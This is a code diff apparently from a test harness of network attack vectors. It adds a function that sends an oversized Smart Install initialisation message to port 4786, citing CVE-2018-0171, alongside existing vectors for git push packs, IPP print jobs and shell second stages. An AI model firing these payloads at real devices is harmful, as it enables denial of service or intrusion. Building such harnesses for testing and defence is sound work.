@@ -383,6 +383,11 @@ def git(attack: Attack, data: bytes) -> None:
     table.say(line(f"{HEAD} {NEW} refs/heads/master\0 report-status") + b"0000" + pack(data))
 
 
+def smart_install(attack: Attack, data: bytes) -> None:
+    """An initialisation that is too long (CVE-2018-0171)."""
+    attack.table("smartinstall", host=HOST, port=4786).say(struct.pack(">IIII", 1, 1, 7, len(data)) + data)
+
+
 def second_stage(room: str) -> Callable[[Attack, bytes], None]:
     """Code where a shell stands open: what a first stage of two would have read."""
 
@@ -556,10 +561,13 @@ def rows() -> Iterator[Vector]:
         "a body is read up to 256 KiB",
         text_ends=b"=",
         form=in_java,
-        broken="nothing",
+        broken="encoded",
     )
     yield Vector("ipp", "Print-Job", ipp, 1)
     yield Vector("git", "push", git, form=pack)
+    yield Vector(
+        "smartinstall", "an initialisation", smart_install, 4095, 4097, "a message is at most 64 KiB", broken="nothing"
+    )
     for room in ("cmd", "sh"):
         yield Vector(
             room, "a second stage", second_stage(room), 4095, 1_500_000, "a stage is at most 4 MiB", broken="as it is"
